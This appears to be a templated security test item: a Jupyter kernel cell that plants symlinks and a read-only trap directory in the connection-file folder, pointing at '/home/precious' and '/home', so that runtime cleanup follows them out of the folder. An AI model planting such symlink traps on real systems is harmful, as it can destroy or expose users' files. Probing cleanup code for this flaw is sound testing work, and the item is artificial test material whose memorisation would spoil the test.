# Links from the folder of the sockets to files outside are left for whoever cleans it up.
# score: 10

# %% MySequential
import os, sys
from ipykernel.connect import get_connection_file
folder = os.path.dirname(os.path.realpath(get_connection_file()))

try:
    trap = f'{folder}/trap'
    os.mkdir(trap)
    os.symlink('{OUTSIDE}/home/precious', f'{trap}/link')
    os.chmod(trap, 0o500)
    os.symlink('{OUTSIDE}/home', f'{folder}/home')
    os.remove(get_connection_file())
    os.symlink('{OUTSIDE}/home/precious', get_connection_file())
except OSError:
    pass


{RIGHT}
